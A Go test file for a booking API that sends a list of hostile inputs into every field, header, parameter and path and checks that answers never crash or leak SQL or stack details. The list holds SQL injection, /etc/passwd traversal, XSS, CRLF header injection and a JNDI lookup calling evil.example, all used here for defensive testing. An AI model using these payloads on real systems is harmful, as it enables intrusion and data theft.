package api_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"
)

// hostile are texts that broke other systems.
func hostile() map[string]string {
	return map[string]string{
		"SQL":              `'; drop table booking; --`,
		"SQL in a number":  `1 or 1=1`,
		"a backslash":      `\'; SELECT pg_sleep(9); --`,
		"a dollar quote":   `$$;$1`,
		"a path":           `../../../../etc/passwd`,
		"a Windows path":   `..\..\con`,
		"a template":       `{{.}}${7*7}<%= 7 %>#{7}`,
		"a format":         `%s%n%d%!`,
		"a lookup":         `${jndi:ldap://evil.example/x}`,
		"markup":           `"><script>alert(1)</script>`,
		"a zero byte":      "a\x00b",
		"zero bytes":       "\x00",
		"escape":           "\x1b[2J\a\b",
		"line ends":        "a\r\nBcc: eve@evil.example\r\n\r\nb",
		"a line separator": "a\u2028b\u2029c",
		"a mark of order":  "\ufeffa\u202eb\u2066c",
		"zalgo":            "Z" + strings.Repeat("\u0351\u0322\u036f", 200),
		"a noncharacter":   "\uffff\ufffe",
		"a tall emoji":     "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
		"a broken pair":    "\ufffd",
		"a long one":       strings.Repeat("x", 5000),
		"a number":         "99999999999999999999999999",
		"a minus":          "-1",
		"a null":           "null",
		"blank":            " \t",
	}
}

// spill is what no answer may show: our SQL, our types, our stack.
var spill = regexp.MustCompile(`pq:|SQLSTATE|goroutine|\.go:\d|runtime error|json: |select |insert |invalid byte sequence|panic`)

// C31: a zero byte in a name ended in the database's own words.
func TestHostileTextsInEveryPlaceAreMetWithAnAnswer(t *testing.T) {
	h := open(t)
	h.now = time.Date(2026, 12, 7, 8, 0, 0, 0, time.UTC)
	link := h.books().under()
	check := func(about string, a said) {
		t.Helper()
		if a.status >= 500 || spill.MatchString(a.body) {
			t.Errorf("%s: %d %s", about, a.status, a.body)
		}
	}
	source := 0
	for name, text := range hostile() {
		source++
		h.source = "192.0.2." + string(rune('0'+source%10)) + ":1"
		for _, field := range []string{"type", "start", "timezone", "coach", "name", "email", "phone", "message", "partner_name", "partner_email", "safe_to_email"} {
			about := name + " in " + field
			a := h.post(bookings, body("start", "2026-12-09T10:00:00Z", field, text))
			check(about, a)
			if a.status == 201 {
				b := a.booking()
				check(about+", shown", h.get(b.under()))
				h.post(b.under()+"/cancel", "").wants(200)
			}
		}
		raw, err := json.Marshal(text)
		h.must(err)
		check(name+" as a field", h.post(bookings, strings.Replace(body(), "{", "{"+string(raw)+":1,", 1)))
		check(name+" as a new start", h.post(link+"/reschedule", `{"start":`+string(raw)+`}`))
		check(name+" as a key", h.post(bookings, body(), key(text)))
		check(name+" as a media type", h.post(bookings, body(), header("Content-Type", text)))
		for _, parameter := range []string{"type", "from", "to", "timezone", "coach"} {
			check(name+" in "+parameter, h.slots(parameter, text))
		}
		check(name+" as a parameter", h.get("/api/v1/slots?"+url.QueryEscape(text)+"=1"))
		if token := url.PathEscape(text); !strings.Contains(text, "/") {
			at := func(rest string) func(*http.Request) {
				return func(r *http.Request) {
					r.URL = &url.URL{Path: "/api/v1/bookings/" + text + rest, RawPath: "/api/v1/bookings/" + token + rest}
				}
			}
			check(name+" as a token", h.ask("GET", bookings+"/x", "", at("")))
			check(name+" as a token to cancel", h.post(bookings+"/x/cancel", "", at("/cancel")))
		}
		cancelled := h.books("start", "2026-12-10T10:00:00Z")
		check(name+" as a reason", h.post(cancelled.under()+"/cancel", `{"reason":`+string(raw)+`}`))
		if a := h.post(cancelled.under()+"/cancel", ""); a.status != 200 {
			t.Errorf("%s: %s", name, a.body)
		}
	}
	if n := h.count(`select count(*) from booking where status = 'confirmed'`); n != 1 {
		t.Errorf("%d bookings are left", n)
	}
}

func TestAnAddressWithBrokenTextIsABadRequest(t *testing.T) {
	h := open(t)
	for _, query := range []string{"type=%00", "type=a%00b", "type=%ff", "%ff=1", "coach=%c3%28", "type=call&timezone=%00"} {
		h.get("/api/v1/slots?from=2026-12-08&to=2026-12-09&timezone=UTC&"+query).refused(400, "bad-request")
	}
}

// What goes wrong behind the door is told without its cause.
func TestOurOwnTroubleIsToldWithoutItsCause(t *testing.T) {
	h := open(t)
	late := func(r *http.Request) {
		ctx, cancel := context.WithDeadline(r.Context(), time.Unix(0, 0))
		cancel()
		*r = *r.WithContext(ctx)
	}
	a := h.ask("GET", "/api/v1/slots?type=call&from=2026-12-08&to=2026-12-09&timezone=UTC", "", late)
	a.refused(503, "unavailable")
	if a.header.Get("Retry-After") == "" {
		t.Error("no Retry-After")
	}
	link := h.books().under()
	h.must(h.db.Close())
	for _, a := range []said{h.get("/api/v1/appointment-types"), h.get(link)} {
		if a.status < 500 || spill.MatchString(a.body) || strings.Contains(a.body, "database is closed") {
			t.Errorf("%d %s", a.status, a.body)
		}
	}
}
